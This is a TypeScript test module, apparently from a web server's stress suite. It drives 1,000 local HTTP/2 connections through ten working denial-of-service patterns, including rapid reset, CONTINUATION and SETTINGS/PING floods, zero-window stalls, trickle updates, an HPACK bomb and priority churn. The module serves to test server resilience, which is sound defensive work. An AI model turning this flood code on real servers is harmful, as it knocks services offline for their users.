import type { Attack, Target } from '../attack.ts';
import { Intruder, pause, resetAll } from '../crowd.ts';
import {
  END_HEADERS,
  END_STREAM,
  frame,
  get,
  literal,
  number,
  preface,
  requestBlock,
  Type,
} from '../frames.ts';

/** Connections at once. */
const HOSTILE = 1_000;
/** Milliseconds between two things that a connection does, and before it comes again when it was sent away. */
const BEAT_MS = 50;
const LARGE = 1_000_000;
const FILES = 50;

/** What a connection says at first, and again and again. `turn` counts from 0. */
interface Manner {
  readonly name: string;
  readonly reads: boolean;
  readonly start: (who: number) => Buffer;
  readonly beat: (turn: number, who: number) => Buffer | null;
}

function repeated(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

/** Odd numbers: streams of a client. */
function stream(index: number): number {
  return 2 * index + 1;
}

const MANNERS: readonly Manner[] = [
  {
    name: 'rapid-reset',
    reads: true,
    start: () => preface(),
    beat: (turn) =>
      repeated(50, (index) => {
        const id = stream(turn * 50 + index);
        return Buffer.concat([get(id, '/page.html'), frame(Type.RST_STREAM, 0, id, number(8))]);
      }),
  },
  {
    name: 'made-resets',
    reads: true,
    start: () => preface(),
    // A window that grows by 0 makes the server reset the stream.
    beat: (turn) =>
      repeated(50, (index) => {
        const id = stream(turn * 50 + index);
        return Buffer.concat([get(id, '/page.html'), frame(Type.WINDOW_UPDATE, 0, id, number(0))]);
      }),
  },
  {
    name: 'continuation',
    reads: true,
    start: () => Buffer.concat([preface(), frame(Type.HEADERS, END_STREAM, 1, requestBlock('/page.html'))]),
    beat: () =>
      frame(
        Type.CONTINUATION,
        0,
        1,
        repeated(100, () => literal('x-field', 'y'.repeat(100))),
      ),
  },
  {
    name: 'settings',
    reads: false,
    start: () => preface(),
    beat: () => repeated(50, () => frame(Type.SETTINGS, 0, 0)),
  },
  {
    name: 'ping',
    reads: false,
    start: () => preface(),
    beat: () => repeated(50, () => frame(Type.PING, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'empty-data',
    reads: true,
    start: () =>
      Buffer.concat([preface(), frame(Type.HEADERS, END_HEADERS, 1, requestBlock('/up/x', 'POST'))]),
    beat: () => repeated(50, () => frame(Type.DATA, 0, 1)),
  },
  {
    name: 'zero-window',
    reads: true,
    start: (who) =>
      Buffer.concat([
        preface(0),
        repeated(100, (index) => get(stream(index), `/large-${(who + index) % FILES}.bin`)),
      ]),
    beat: () => null,
  },
  {
    name: 'trickle',
    reads: true,
    start: (who) => Buffer.concat([preface(1), get(1, `/large-${who % FILES}.bin`)]),
    beat: () => frame(Type.WINDOW_UPDATE, 0, 1, number(1)),
  },
  {
    name: 'hpack-bomb',
    reads: true,
    start: () => preface(),
    // One entry of the table, named again and again.
    beat: (turn) => {
      const entry = turn === 0 ? literal('x-bomb', 'z'.repeat(120), true) : Buffer.alloc(0);
      const block = Buffer.concat([requestBlock('/page.html'), entry, Buffer.alloc(15_000, 0xbe)]);
      return frame(Type.HEADERS, END_STREAM | END_HEADERS, stream(turn), block);
    },
  },
  {
    name: 'priorities',
    reads: true,
    start: () => preface(),
    beat: (turn) =>
      repeated(50, (index) => {
        const id = stream(turn * 50 + index);
        const dependency = Buffer.concat([number(stream(turn * 50 + ((index + 1) % 50))), Buffer.of(255)]);
        const update = Buffer.concat([number(id), Buffer.from(`u=${index % 8}, i`)]);
        return Buffer.concat([
          frame(Type.PRIORITY, 0, id, dependency),
          frame(Type.PRIORITY_UPDATE, 0, 0, update),
        ]);
      }),
  },
];

/** Keeps one hostile connection alive: when the server ends it, another one comes. */
async function harass(manner: Manner, who: number, { ports, over }: Target, ends: Map<string, number>) {
  while (!over.aborted) {
    const each = new Intruder(ports[1] ?? 0, `127.0.1.${1 + (who % 200)}`);
    await each.connected();
    if (!manner.reads) each.stopReading();
    each.send(manner.start(who));
    for (let turn = 0; !over.aborted && !each.gone; turn++) {
      const bytes = manner.beat(turn, who);
      if (bytes !== null) each.send(bytes);
      await pause(BEAT_MS, over);
      // What the socket does not take is not kept: this client has memory of its own to lose.
      if (each.socket.writableLength > 1 << 20) break;
    }
    if (!over.aborted) ends.set(manner.name, (ends.get(manner.name) ?? 0) + 1);
    resetAll([each]);
  }
}

/** HTTP/2: what a client says costs it less than the server. */
export const streams: readonly Attack[] = [
  {
    name: 'http2-hostile',
    what: '1,000 connections of HTTP/2 that flood, stall, trickle and expand in ten ways, and come again when they are sent away',
    errand: 'page',
    directives: 'listen 0.0.0.0:0 h2c; max_connect 4000; max_connect_per_address 0;',
    seconds: 15,
    prepare: (ground) => {
      const content = ground.random.bytes(LARGE);
      for (let index = 0; index < FILES; index++) ground.file(`files/large-${index}.bin`, content);
    },
    async play(target) {
      const ends = new Map<string, number>();
      const all = Array.from({ length: HOSTILE }, (_, who) =>
        harass(MANNERS[who % MANNERS.length] as Manner, who, target, ends),
      );
      await Promise.all(all);
      const words = MANNERS.map(({ name }) => `${name} ${ends.get(name) ?? 0}`);
      return `sent away: ${words.join(', ')}`;
    },
  },
];
